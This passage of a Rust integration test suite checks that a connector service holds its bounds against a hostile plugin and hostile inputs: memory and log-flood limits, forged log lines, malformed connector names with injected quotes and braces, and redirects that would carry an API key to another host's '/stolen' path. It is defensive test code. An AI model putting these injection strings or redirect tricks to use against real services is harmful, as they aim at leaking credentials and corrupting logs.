    std::fs::write(&big, format!("{{\"value\":\"{}\"}}", "v".repeat(1 << 20))).unwrap();
    let (ok, out, err) = plugin_test(&cache, &hostile, &["mode=keep-many"], &big);
    assert!(
        !ok && err.contains("more than the inputs") && err.contains("memory limit"),
        "keep-many: {} bytes written\n{err}",
        out.len()
    );
    assert!(out.len() < 1 << 20, "nothing of the outputs was written");
    // 20 failures of 1 MiB each are kept at 4 KiB.
    let (ok, out, err) = plugin_test(&cache, &hostile, &["mode=long-failures"], &input);
    assert!(ok, "{err}");
    assert!(
        out.lines().all(|l| l.len() < 5000),
        "a failure message is bounded"
    );
    assert!(err.contains("20 failed"), "{err}");
    // 10 000 log lines with forged timestamps: 600 written, none forged.
    let (ok, _, err) = plugin_test(&cache, &hostile, &["mode=log-flood"], &input);
    assert!(ok);
    let flood = err.lines().filter(|l| l.contains("flood")).count();
    assert_eq!(flood, 600, "the log budget");
    assert!(
        !err.lines().any(|l| l.starts_with("2026-12-04T00:00:00")),
        "a plugin forged a log line"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn names_loggers_and_redirects_stay_within_bounds() {
    let w = ApiWorker::start(&[]).await;
    let topic = unique_topic("names");
    for bad in ["a\"b", "a b", "x{y=\"1\"}", &"n".repeat(250)] {
        let (status, answer) = w
            .call(
                "POST",
                "/connectors",
                Some(&http_connector(bad, &topic, "http://127.0.0.1:9/", &[])),
            )
            .await;
        assert_eq!(status, 400, "{bad}: {answer}");
        assert!(
            answer.to_string().contains("Kafka's topic characters"),
            "{answer}"
        );
    }
    let mut last = 0;
    for i in 0..300 {
        let (status, _) = w
            .call(
                "PUT",
                &format!("/admin/loggers/sluice::flood{i}"),
                Some(&json!({"level": "DEBUG"})),
            )
            .await;
        last = status;
        if status != 200 {
            assert!(i > 200, "logger {i} refused too early");
            break;
        }
    }
    assert_eq!(last, 400, "the logger count is capped");

    // A redirect to another host would carry the headers and body there.
    let (a, b) = (Receiver::start().await, Receiver::start().await);
    a.redirect_all_to(&b.url("/stolen"));
    create_topic(&topic, 1).await;
    let connector = http_connector(
        "redirected",
        &topic,
        &a.url("/in"),
        &[
            ("headers", "X-API-Key: k-123"),
            ("max.retries", "0"),
            ("behavior.on.error", "log"),
        ],
    );
    let (status, answer) = w.call("POST", "/connectors", Some(&connector)).await;
    assert_eq!(status, 201, "{answer}");
    produce(&producer(), &topic, 0, &[(None, Some(r#"{"n":1}"#.into()))]).await;
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while a.received().is_empty() {
        assert!(std::time::Instant::now() < deadline, "nothing was sent");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(b.received().is_empty(), "the other host got the request");
    // A 302 on the same host would turn the POST into a bodiless GET whose
    // 200 would pass for a delivery: it fails the request instead.
    let c = Receiver::start().await;
    c.redirect_all_with(302, &c.url("/login"));
    let topic302 = unique_topic("redirect302");
    create_topic(&topic302, 1).await;
    let connector = http_connector(
        "redirected302",
        &topic302,
        &c.url("/in"),
        &[("max.retries", "0"), ("behavior.on.error", "log")],
    );
    let (status, answer) = w.call("POST", "/connectors", Some(&connector)).await;
    assert_eq!(status, 201, "{answer}");
    produce(
        &producer(),
        &topic302,
        0,
        &[(None, Some(r#"{"n":1}"#.into()))],
    )
    .await;
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while c.received().is_empty() {
        assert!(std::time::Instant::now() < deadline, "nothing was sent");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    let got = c.received();
    assert!(
        got.iter().all(|r| r.method == "POST" && r.path == "/in"),
        "the redirect was followed: {:?}",
        got.iter().map(|r| (&r.method, &r.path)).collect::<Vec<_>>()
    );
    assert_eq!(w.code("GET", "/health").await, 200);
    let _ = w.process.stop();
}
